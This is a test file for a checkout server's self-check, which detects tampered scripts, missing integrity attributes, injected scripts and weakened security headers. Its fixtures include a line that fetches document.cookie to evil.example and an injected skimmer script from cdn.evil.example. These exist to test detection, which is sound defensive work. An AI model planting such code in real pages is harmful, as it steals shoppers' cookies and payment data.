import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../src/server/app.js';
import { CONFIG_PLACEHOLDER } from '../../src/server/modules/page/page-service.js';
import { writePageIntegrity, type PageManifest } from '../../src/server/modules/page/page-manifest.js';
import { createPageSelfCheck } from '../../src/server/modules/page/page-self-check.js';
import {
  pageCardProcessorOf,
  pageContentSecurityPolicy,
} from '../../src/server/platform/http/security-headers.js';
import { createLogger } from '../../src/server/platform/logging.js';
import { createMetrics } from '../../src/server/platform/observability/metrics.js';
import { createTestApp, type TestApp } from '../helpers/test-app.js';

let t: TestApp;
const opened: FastifyInstance[] = [];

beforeAll(async () => {
  t = await createTestApp();
});

afterAll(async () => {
  for (const app of opened) await app.close();
  await t.close();
});

/** A built page as Vite writes it (entry, preload, stylesheet, a chunk loaded later), with its integrity and manifest. */
async function buildPage(): Promise<{ dir: string; manifest: PageManifest }> {
  const dir = mkdtempSync(path.join(tmpdir(), 'sc-page-check-'));
  mkdirSync(path.join(dir, 'assets'));
  writeFileSync(path.join(dir, 'assets', 'index-a1.js'), 'import "./dep-b2.js"; console.log("checkout");\n');
  writeFileSync(path.join(dir, 'assets', 'dep-b2.js'), 'export const dep = 1;\n');
  writeFileSync(path.join(dir, 'assets', 'later-c3.js'), 'export const later = 1;\n');
  writeFileSync(path.join(dir, 'assets', 'index-d4.css'), 'body{margin:0}\n');
  writeFileSync(
    path.join(dir, 'index.html'),
    `<!doctype html><html lang="en"><head><title>Secure Checkout</title>${CONFIG_PLACEHOLDER}` +
      '<script type="module" crossorigin src="/checkout/assets/index-a1.js"></script>' +
      '<link rel="modulepreload" crossorigin href="/checkout/assets/dep-b2.js">' +
      '<link rel="stylesheet" crossorigin href="/checkout/assets/index-d4.css"></head><body></body></html>',
  );
  return { dir, manifest: await writePageIntegrity(dir, '/checkout/') };
}

/** The real app serving `dir`, and its page check as server.ts runs it. */
async function serve(dir: string, manifest: PageManifest, change?: (app: FastifyInstance) => void) {
  const logs: string[] = [];
  const metrics = createMetrics({ processMetrics: false });
  const app = await buildApp({
    config: t.config,
    db: t.db,
    clock: t.clock,
    logger: createLogger({ level: 'silent' }),
    tokenSecrets: { current: t.tokenSecret, previous: null },
    clientDir: dir,
    metrics,
  });
  change?.(app);
  await app.ready();
  opened.push(app);
  const check = createPageSelfCheck({
    app,
    manifest,
    expectedPolicy: () =>
      pageContentSecurityPolicy(
        t.config.errorReportingDsn,
        pageCardProcessorOf(t.config),
        manifest.scriptHashes,
      ),
    logger: {
      error: (object: unknown, message?: string) => void logs.push(JSON.stringify({ object, message })),
    } as never,
    onChanges: metrics.recordPageChanges,
  });
  const counted = async () => {
    const line = (await metrics.render())
      .split('\n')
      .find((entry) => entry.startsWith('checkout_page_changes_total '));
    return Number(line?.split(' ')[1]);
  };
  return { app, check, logs, counted };
}

describe('the page check inside the server', () => {
  it('stays quiet while the page is what the build wrote down', async () => {
    const { dir, manifest } = await buildPage();
    const { app, check, logs, counted } = await serve(dir, manifest);
    expect(await check()).toEqual([]);
    expect(logs).toEqual([]);
    expect(await counted()).toBe(0);
    // The import map that gives every chunk its integrity is the page's one inline script, allowed by its hash.
    const page = await app.inject({ method: 'GET', url: '/checkout' });
    expect(page.body).toContain(
      '<script type="importmap">{"integrity":{"/checkout/assets/dep-b2.js":"sha384-',
    );
    expect(manifest.scriptHashes).toHaveLength(1);
    expect(page.headers['content-security-policy']).toContain(
      `script-src 'self' ${manifest.scriptHashes[0]};`,
    );
  });

  it('finds a script file changed on disk, first-load or loaded later, logs it at error and counts it', async () => {
    const { dir, manifest } = await buildPage();
    const { check, logs, counted } = await serve(dir, manifest);
    writeFileSync(
      path.join(dir, 'assets', 'later-c3.js'),
      'fetch("https://evil.example/?" + document.cookie);\n',
    );
    writeFileSync(path.join(dir, 'assets', 'index-a1.js'), 'console.log("changed");\n');
    // The precompressed copy is what most browsers get: it is checked apart from the file.
    writeFileSync(path.join(dir, 'assets', 'dep-b2.js.gz'), gzipSync('export const dep = 2;\n'));
    const changes = await check();
    expect(changes.map((change) => [change.kind, change.subject, change.detail.split('(')[1]])).toEqual([
      ['content_changed', '/checkout/assets/dep-b2.js', 'gzip), manifest ' + manifest.assets[0]?.integrity],
      ...['identity', 'gzip', 'br'].map((encoding) => [
        'content_changed',
        '/checkout/assets/index-a1.js',
        `${encoding}), manifest ${manifest.assets[1]?.integrity}`,
      ]),
      ...['identity', 'gzip', 'br'].map((encoding) => [
        'content_changed',
        '/checkout/assets/later-c3.js',
        `${encoding}), manifest ${manifest.assets[3]?.integrity}`,
      ]),
    ]);
    expect(logs).toHaveLength(1);
    expect(logs[0]).toContain("the served checkout page differs from the build's manifest");
    expect(await counted()).toBe(7);
  });

  it('finds a page served without integrity, and a script added to it', async () => {
    const { dir, manifest } = await buildPage();
    const indexFile = path.join(dir, 'index.html');
    writeFileSync(
      indexFile,
      readFileSync(indexFile, 'utf8')
        .replace(/ integrity="[^"]+"(?=><\/script>)/, '')
        .replace('</head>', '<script src="https://cdn.evil.example/skim.js"></script></head>'),
    );
    const { check, counted } = await serve(dir, manifest);
    const changes = await check();
    expect(changes.map((change) => [change.kind, change.subject])).toEqual([
      ['integrity_missing', '/checkout/assets/index-a1.js'],
      ['script_added', 'https://cdn.evil.example/skim.js'],
    ]);
    expect(await counted()).toBe(2);
  });

  it('finds a changed security header', async () => {
    const { dir, manifest } = await buildPage();
    const { check } = await serve(dir, manifest, (app) =>
      app.addHook('onSend', async (_request, reply, payload) => {
        reply.removeHeader('x-frame-options');
        reply.header('content-security-policy', 'default-src *');
        return payload;
      }),
    );
    const changes = await check();
    expect(changes.map((change) => [change.kind, change.subject])).toEqual([
      ['header_changed', 'x-frame-options'],
      ['header_changed', 'content-security-policy'],
    ]);
  });
});
